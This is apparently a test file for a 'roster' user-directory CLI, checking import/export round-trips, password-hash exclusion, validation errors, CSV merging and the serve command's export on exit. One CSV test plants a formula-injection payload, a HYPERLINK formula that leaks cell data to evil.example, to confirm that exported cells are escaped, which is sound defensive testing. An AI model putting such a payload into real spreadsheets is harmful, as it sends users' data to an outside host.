/** roster generate | import | export | serve --seed --export-on-exit, run as child processes like a user runs them. */
import assert from 'node:assert/strict';
import { spawn } from 'node:child_process';
import { mkdtemp, readFile, rm, stat, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import { engines } from '../helpers/roster.js';
import { tempLocation } from '../state/helpers.js';
import { ROSTER_BIN, runRoster as roster } from '../helpers/cli.js';

const BIN = ROSTER_BIN;


let dir: string;
let company: string;
before(async () => {
  dir = await mkdtemp(join(tmpdir(), 'roster-cli-'));
  company = join(dir, 'company.json');
  const gen = await roster(['generate', '--users', '500', '--departments', '40', '--seed', '7', '--out', company]);
  assert.equal(gen.code, 0, gen.stderr);
  assert.match(gen.stderr, /Generated 40 departments, 500 users/);
});
after(() => rm(dir, { recursive: true, force: true }));

describe('roster generate', () => {
  it('writes the same file for the same seed (to stdout without --out)', async () => {
    const again = await roster(['generate', '--users', '500', '--departments', '40', '--seed', '7']);
    assert.equal(again.code, 0);
    assert.equal(again.stdout, await readFile(company, 'utf8'));
  });

  it('refuses bad sizes', async () => {
    const res = await roster(['generate', '--users', 'many', '--departments', '5']);
    assert.equal(res.code, 2);
    assert.match(res.stderr, /--users must be a whole number/);
  });
});

for (const engine of engines) {
  describe(`roster import / export [${engine}]`, () => {
    let a: Awaited<ReturnType<typeof tempLocation>>;
    let b: Awaited<ReturnType<typeof tempLocation>>;
    before(async () => {
      a = await tempLocation(engine, 'clia');
      b = await tempLocation(engine, 'clib');
    });
    after(async () => {
      await a.cleanup();
      await b.cleanup();
    });

    it('imports a file into a fresh database with progress lines and counts, and exports it back exactly', async () => {
      const imported = await roster(['import', company, '--db', a.location]);
      assert.equal(imported.code, 0, imported.stderr);
      assert.match(imported.stderr, /^ {2}users: 500$/m, 'plain progress lines when not on a terminal');
      assert.match(imported.stdout, /Imported 40 departments, 500 users \(\d+ bots, \d+ department memberships, \d+ absences\), \d+ groups/);
      const exported = await roster(['export', '--db', a.location, '--out', join(dir, `${engine}-1.json`)]);
      assert.equal(exported.code, 0, exported.stderr);
      assert.equal(await readFile(join(dir, `${engine}-1.json`), 'utf8'), await readFile(company, 'utf8'));
    });

    it('round-trips: export, import --replace into an empty database, export', async () => {
      const first = join(dir, `${engine}-1.json`);
      assert.equal((await roster(['import', first, '--replace', '--db', b.location])).code, 0);
      const second = await roster(['export', '--db', b.location]);
      assert.equal(second.code, 0);
      assert.equal(second.stdout, await readFile(first, 'utf8'));
    });

    it('leaves password hashes out unless --with-secrets, writes files 0600, and round-trips either way', async () => {
      const set = await roster(['user', 'password', '5', '--password', 'correct horse battery', '--db', a.location]);
      assert.equal(set.code, 0, set.stderr);
      const plain = join(dir, `${engine}-plain.json`);
      const full = join(dir, `${engine}-full.json`);
      const csv = join(dir, `${engine}-csv`);
      assert.equal((await roster(['export', '--db', a.location, '--out', plain])).code, 0);
      assert.equal((await roster(['export', '--db', a.location, '--out', full, '--with-secrets'])).code, 0);
      assert.equal((await roster(['export', '--db', a.location, '--format', 'csv', '--out', csv])).code, 0);
      for (const file of [plain, full, join(csv, 'users.csv'), join(csv, 'groups.csv')]) assert.equal((await stat(file)).mode & 0o777, 0o600, file);
      const plainText = await readFile(plain, 'utf8');
      assert.equal(/password_hash|scrypt\$/.test(plainText), false);
      assert.equal(/PASSWORD_HASH|scrypt\$/.test(await readFile(join(csv, 'users.csv'), 'utf8')), false);
      assert.equal(/scrypt\$/.test((await roster(['export', '--db', a.location])).stdout), false, 'stdout too');
      const hash = JSON.parse(await readFile(full, 'utf8')).users[4].password_hash;
      assert.match(hash, /^scrypt\$/);
      // with secrets, the round trip carries the password
      assert.equal((await roster(['import', full, '--replace', '--db', b.location])).code, 0);
      assert.equal((await roster(['export', '--db', b.location, '--with-secrets'])).stdout, await readFile(full, 'utf8'));
      // without, --merge keeps stored passwords and --replace makes the directory exactly the file
      assert.equal((await roster(['import', plain, '--merge', '--db', b.location])).code, 0);
      assert.equal((await roster(['export', '--db', b.location, '--with-secrets'])).stdout, await readFile(full, 'utf8'));
      assert.equal((await roster(['import', plain, '--replace', '--db', b.location])).code, 0);
      assert.equal((await roster(['export', '--db', b.location, '--with-secrets'])).stdout.includes(hash), false);
      assert.equal((await roster(['export', '--db', b.location])).stdout, plainText);
      // back to what the next tests expect
      assert.equal((await roster(['import', join(dir, `${engine}-1.json`), '--replace', '--db', b.location])).code, 0);
    });

    it('reports every problem with its line and imports nothing', async () => {
      const lines = (await readFile(company, 'utf8')).split('\n');
      const at = (needle: string) => lines.findIndex((l) => l.includes(needle));
      const userLine = at('"id":300,');
      lines[userLine] = lines[userLine]!.replace(/"birthday":(null|"[^"]*")/, '"birthday":"1990-02-30"');
      const deptLine = at('{"id":7,"name"');
      lines[deptLine] = lines[deptLine]!.replace(/"parent":\d+/, '"parent":7');
      const bad = join(dir, 'bad.json');
      await writeFile(bad, lines.join('\n'));
      const res = await roster(['import', bad, '--replace', '--db', b.location]);
      assert.equal(res.code, 1);
      assert.ok(res.stderr.includes(`${bad}:${deptLine + 1}: departments[6].parent: a department cannot be under itself`), res.stderr);
      assert.ok(res.stderr.includes(`${bad}:${userLine + 1}: users[299].birthday: birthday must be a calendar date`), res.stderr);
      assert.match(res.stderr, /2 problems in .*; nothing was imported\./);
      assert.equal((await roster(['export', '--db', b.location])).stdout, await readFile(company, 'utf8'));
    });

    it('asks for --replace or --merge when the database already holds a directory', async () => {
      const res = await roster(['import', company, '--db', b.location]);
      assert.equal(res.code, 2);
      assert.match(res.stderr, /already holds a directory: pass --replace .* or --merge/);
    });
  });
}

describe('roster import / export CSV [sqlite]', () => {
  it('exports CSV files and imports them back (users.csv with --departments and --groups) exactly', async () => {
    const db = join(dir, 'csv-a.db');
    assert.equal((await roster(['import', company, '--db', db])).code, 0);
    const csv = join(dir, 'csv');
    const out = await roster(['export', '--format', 'csv', '--out', csv, '--db', db]);
    assert.equal(out.code, 0, out.stderr);
    const users = await readFile(join(csv, 'users.csv'), 'utf8');
    assert.match(users.split('\n')[0]!, /^ID,LOGIN,EMAIL,ACTIVE,ADMIN,USER_TYPE,EXTERNAL_AUTH_ID,NAME,LAST_NAME,SECOND_NAME,WORK_POSITION,/);
    const db2 = join(dir, 'csv-b.db');
    const args = ['import', join(csv, 'users.csv'), '--departments', join(csv, 'departments.csv'), '--groups', join(csv, 'groups.csv'), '--db', db2];
    const back = await roster(args);
    assert.equal(back.code, 0, back.stderr);
    assert.equal((await roster(['export', '--db', db2])).stdout, await readFile(company, 'utf8'));
  });

  it('writes names that look like formulas as text and imports them back unchanged', async () => {
    const doc = JSON.parse(await readFile(company, 'utf8'));
    doc.groups[0].name = '=HYPERLINK("http://evil.example/?leak="&A1,"open")';
    Object.assign(doc.users[4], { name: '@SUM(A1)', last_name: "'=already", work_position: '-2+3' });
    doc.departments[3].name = '+Sales';
    const source = join(dir, 'formulas.json');
    await writeFile(source, JSON.stringify(doc));
    const db = join(dir, 'formulas-a.db');
    assert.equal((await roster(['import', source, '--db', db])).code, 0);
    const csv = join(dir, 'formulas');
    assert.equal((await roster(['export', '--format', 'csv', '--out', csv, '--db', db])).code, 0);
    const text = (await Promise.all(['users', 'departments', 'groups'].map((k) => readFile(join(csv, `${k}.csv`), 'utf8')))).join('');
    for (const raw of ['"\'=HYPERLINK(""http', "'@SUM(A1)", "''=already", "'-2+3", "'+Sales"]) assert.ok(text.includes(`,${raw}`), raw);
    assert.doesNotMatch(text, /(^|,)"?[=+\-@]/m, 'no cell starts a formula');
    const db2 = join(dir, 'formulas-b.db');
    const back = await roster(['import', join(csv, 'users.csv'), '--departments', join(csv, 'departments.csv'), '--groups', join(csv, 'groups.csv'), '--db', db2]);
    assert.equal(back.code, 0, back.stderr);
    assert.equal((await roster(['export', '--db', db2])).stdout, (await roster(['export', '--db', db])).stdout);
  });

  it('merges a spreadsheet of a few columns by ID, and names line and column of problems', async () => {
    const db = join(dir, 'csv-merge.db');
    assert.equal((await roster(['import', company, '--db', db])).code, 0);
    const doc = JSON.parse(await readFile(company, 'utf8'));
    const [one, two] = doc.users.filter((u: any) => u.type === 'employee' && u.departments.length && !doc.departments.some((d: any) => d.head === u.id));
    const sheet = join(dir, 'positions.csv');
    await writeFile(sheet, `ID;WORK_POSITION;UF_DEPARTMENT\n${one.id};Chief Merger;"2;3"\n`);
    const merged = await roster(['import', sheet, '--merge', '--db', db]);
    assert.equal(merged.code, 0, merged.stderr);
    const user = JSON.parse((await roster(['export', '--db', db])).stdout).users[one.id - 1];
    assert.deepEqual([user.work_position, user.departments], ['Chief Merger', [2, 3]]);

    await writeFile(sheet, `ID;WORK_POSITION;UF_DEPARTMENT\n${one.id};Fine;2\n${two.id};Broken;9999\n`);
    const refused = await roster(['import', sheet, '--merge', '--db', db]);
    assert.equal(refused.code, 1);
    assert.match(refused.stderr, /positions\.csv:3 column UF_DEPARTMENT: users\[1\]\.departments\[0\]: Department 9999 does not exist \[unknown_department\]/);
  });
});

describe('roster serve --seed --export-on-exit [sqlite]', () => {
  it('starts on :memory: with the seed and writes the state on SIGTERM', async () => {
    const out = join(dir, 'on-exit.json');
    const child = spawn(process.execPath, [BIN, 'serve', '--db', ':memory:', '--port', '0', '--log-level', 'warn', '--seed', company, '--export-on-exit', out], {
      stdio: ['ignore', 'pipe', 'pipe'],
    });
    let output = '';
    await new Promise<void>((resolve, reject) => {
      const timer = setTimeout(() => reject(new Error(`serve did not start:\n${output}`)), 30000);
      const onData = (chunk: Buffer) => {
        output += chunk.toString();
        if (output.includes('Roster is listening')) {
          clearTimeout(timer);
          resolve();
        }
      };
      child.stdout.on('data', onData);
      child.stderr.on('data', onData);
      child.once('exit', (code) => reject(new Error(`serve exited with ${code}:\n${output}`)));
    });
    assert.match(output, /Loaded .*company\.json: 40 departments, 500 users/);
    assert.match(output, /Directory: :memory: \(SQLite\)/);
    const exited = new Promise<[number | null, string | null]>((resolve) => child.once('exit', (code, signal) => resolve([code, signal])));
    child.kill('SIGTERM');
    assert.deepEqual(await exited, [0, null], output);
    assert.equal(await readFile(out, 'utf8'), await readFile(company, 'utf8'));
    assert.equal((await stat(out)).mode & 0o777, 0o600);
  });

  it('refuses to start with a seed that does not validate, listing the problems', async () => {
    const bad = join(dir, 'bad-seed.json');
    await writeFile(bad, JSON.stringify({ departments: [{ id: 1, name: 'A', parent: 2 }], users: [] }));
    const res = await roster(['serve', '--db', ':memory:', '--port', '0', '--seed', bad]);
    assert.equal(res.code, 2);
    assert.match(res.stderr, /seed .*bad-seed\.json has 2 problems/);
    assert.match(res.stderr, /departments\[0\]\.parent: the parent, Department 2, does not exist \[unknown_parent\]/);
  });
});
